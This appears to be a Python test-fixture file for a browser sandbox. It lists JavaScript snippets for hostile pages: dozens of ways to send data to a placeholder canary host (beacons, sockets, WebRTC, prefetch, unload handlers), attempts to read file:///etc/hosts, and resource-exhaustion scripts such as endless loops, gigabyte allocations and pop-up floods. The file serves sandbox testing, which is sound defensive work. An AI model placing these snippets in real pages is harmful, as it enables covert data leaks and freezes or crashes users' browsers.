"""What hostile pages do in a browser: a script each. {http} {ws} {udp} {turn} {name} are the canary, which must hear nothing."""

from collections.abc import Mapping

_WORKER = "new Worker(URL.createObjectURL(new Blob([`{}`])))"
_RTC = "const c = new RTCPeerConnection({{iceServers: [{}]}}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"


def _put(markup: str) -> str:
    return f"document.body.insertAdjacentHTML('beforeend', `{markup}`)"


REACHING: Mapping[str, str] = {
    "fetch": "fetch('{http}a', {mode: 'no-cors'})",
    "fetch keepalive": "fetch('{http}a', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "fetch of a name": "fetch('http://{name}/a')",
    "fetch that is redirected": "fetch('/to-canary')",
    "fetch that is redirected to a file": "fetch('/to-file')",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '{http}a'); x.send()",
    "xhr that is redirected": "const x = new XMLHttpRequest(); x.open('GET', '/to-canary'); x.send()",
    "beacon": "navigator.sendBeacon('{http}a', 'x')",
    "event source": "new EventSource('{http}a')",
    "event source that is redirected": "new EventSource('/to-canary')",
    "image": "new Image().src = '{http}a'",
    "image that is redirected": "new Image().src = '/to-canary'",
    "image of a name": "new Image().src = 'http://{name}/a'",
    "picture with sources": _put("<picture><source srcset='{http}a'><img src='{http}b' srcset='{http}c 2x'></picture>"),
    "script": "const s = document.createElement('script'); s.src = '{http}a'; document.body.append(s)",
    "script that is redirected": "const s = document.createElement('script'); s.src = '/to-canary'; document.body.append(s)",
    "module": "import('{http}a.js')",
    "module that is redirected": "import('/to-canary')",
    "style sheet": _put("<link rel=stylesheet href='{http}a'><style>@import url({http}b); body {background: url({http}c)}</style>"),
    "font": "new FontFace('x', 'url({http}a)').load()",
    "sound and film": _put("<audio src='{http}a' autoplay></audio><video src='{http}b' poster='{http}c' autoplay></video>"),
    "object and embed": _put("<object data='{http}a'></object><embed src='{http}b'>"),
    "frame": _put("<iframe src='{http}a'></iframe>"),
    "frame that is redirected": _put("<iframe src='/to-canary'></iframe>"),
    "frame with a script": _put("<iframe srcdoc='<script>fetch(&quot;{http}a&quot;, {mode: &quot;no-cors&quot;})</script>'></iframe>"),
    "data frame": _put("<iframe src='data:text/html,<script>fetch(&quot;{http}a&quot;, {mode: &quot;no-cors&quot;})</script>'></iframe>"),
    "blob frame": "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src={http}a>'], {type: 'text/html'})); document.body.append(f)",
    "file frame": _put("<iframe src='file:///etc/hosts'></iframe><img src='file:///etc/hosts'>"),
    "prefetch": _put("<link rel=prefetch href='{http}a'><link rel=prerender href='{http}b'><link rel=preload as=image href='{http}c'>"),
    "prefetch of names": _put("<link rel=dns-prefetch href='//{name}'><link rel=preconnect href='http://{name}'><link rel=preconnect href='{http}'>"),
    "speculation rules": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{\"prerender\": [{\"source\": \"list\", \"urls\": [\"{http}a\"]}], \"prefetch\": [{\"source\": \"list\", \"urls\": [\"{http}b\"]}]}'; document.body.append(s)",
    "manifest and icon": "document.head.insertAdjacentHTML('beforeend', `<link rel=manifest href='{http}a'><link rel=icon href='{http}b'>`)",
    "link that tells": _put("<a id=q href='#x' ping='{http}a'>x</a>") + "; document.getElementById('q').click()",
    "form": _put("<form id=q action='{http}a' method=post target=_blank></form>") + "; document.getElementById('q').submit()",
    "going there": "location.href = '{http}a'",
    "going there by a redirect": "location.href = '/to-canary'",
    "going there by a refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0; url={http}a'>`)",
    "going to a file": "location.href = 'file:///etc/hosts'",
    "pop-up": "window.open('{http}a'); window.open('/to-canary'); const w = window.open('about:blank'); w && w.fetch('{http}b')",
    "worker": _WORKER.format("fetch('{http}a', {{mode: 'no-cors'}}); importScripts('{http}b')").replace("{{", "{").replace("}}", "}"),
    "socket of a worker": _WORKER.format("new WebSocket('{ws}')"),
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`new WebSocket('{ws}')`])))",
    "service worker": "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js')",
    "worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('{http}a.js')",
    "socket": "new WebSocket('{ws}')",
    "many sockets": "for (let i = 0; i < 500; i++) new WebSocket('{ws}' + i)",
    "socket in a frame": _put("<iframe srcdoc='<script>new WebSocket(&quot;{ws}&quot;)</script>'></iframe>"),
    "web transport": "new WebTransport('https://127.0.0.1:{udp}/')",
    "stun": _RTC.format("{{urls: 'stun:127.0.0.1:{udp}'}}").replace("{{", "{").replace("}}", "}"),
    "turn": _RTC.format("{{urls: 'turn:127.0.0.1:{udp}', username: 'u', credential: 'c'}}, {{urls: 'turn:127.0.0.1:{turn}?transport=tcp', username: 'u', credential: 'c'}}").replace("{{", "{").replace("}}", "}"),
    "stun of a name": _RTC.format("{{urls: 'stun:{name}:{udp}'}}").replace("{{", "{").replace("}}", "}"),
    "two peers": "const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.onicecandidate = (e) => e.candidate && b.addIceCandidate(e.candidate); b.onicecandidate = (e) => e.candidate && a.addIceCandidate(e.candidate); a.createDataChannel('x'); a.createOffer().then((o) => a.setLocalDescription(o)).then(() => b.setRemoteDescription(a.localDescription)).then(() => b.createAnswer()).then((o) => b.setLocalDescription(o)).then(() => a.setRemoteDescription(b.localDescription)).then(() => a.addIceCandidate({candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 {udp} typ host', sdpMid: '0'}))",
    "download": "const a = document.createElement('a'); a.href = '{http}a'; a.download = 'x'; document.body.append(a); a.click()",
    "what it sends when it is left": "addEventListener('pagehide', () => {navigator.sendBeacon('{http}a', 'x'); fetch('{http}b', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}); new Image().src = '{http}c'})",
    "permissions": "Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => 0); navigator.clipboard.readText().catch(() => 0)",
    "reports": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv='content-security-policy' content=\"img-src 'none'; report-uri {http}a\">`); new Image().src = '/x'",
}  # fmt: skip
"""What asks somebody: nothing of it may arrive."""

GREEDY: Mapping[str, str] = {
    "endless loop": "while (true) {}",
    "endless promises": "const again = () => Promise.resolve().then(again); again()",
    "endless requests": "for (let i = 0; ; i++) await fetch('/data.json?' + i)",
    "endless pages": "history.pushState({}, '', '/' + Math.random()); location.reload()",
    "a million nodes": "for (let i = 0; i < 1e6; i++) document.body.append(document.createElement('b'))",
    "growing for ever": "setInterval(() => document.body.insertAdjacentHTML('beforeend', '<p>more</p>'.repeat(50)), 1)",
    "2 GB of strings": "const all = []; for (let i = 0; i < 200; i++) all.push(('x' + i).repeat(5e6).split('').join('y'))",
    "4 GB of buffers": "const all = []; for (let i = 0; i < 400; i++) all.push(new Uint8Array(1e7).fill(7))",
    "a thousand canvases": "for (let i = 0; i < 1000; i++) {const c = document.createElement('canvas'); c.width = c.height = 4000; c.getContext('2d').fillRect(0, 0, 4000, 4000); document.body.append(c)}",
    "a thousand workers": "for (let i = 0; i < 1000; i++) new Worker(URL.createObjectURL(new Blob(['while (true) {}'])))",
    "a thousand frames": "for (let i = 0; i < 1000; i++) document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=x></iframe>')",
    "endless dialogs": "while (true) alert('x')",
    "a page that does not let go": "addEventListener('beforeunload', (e) => {e.preventDefault(); e.returnValue = 'x'; while (true) {}}); addEventListener('unload', () => {while (true) {}})",
    "endless pop-ups": "setInterval(() => window.open('about:blank'), 1)",
    "a flood of messages": "setInterval(() => console.log('x'.repeat(1e6)), 0)",
    "a title of 100 MB": "document.title = 'x'.repeat(1e8)",
    "its own functions": "Object.defineProperty(Document.prototype, 'documentElement', {get: () => {while (true) {}}}); Document.prototype.getElementsByTagName = () => {while (true) {}}",
}  # fmt: skip
"""What takes time, memory or processes: each ends, with its reason where it could not be drawn."""
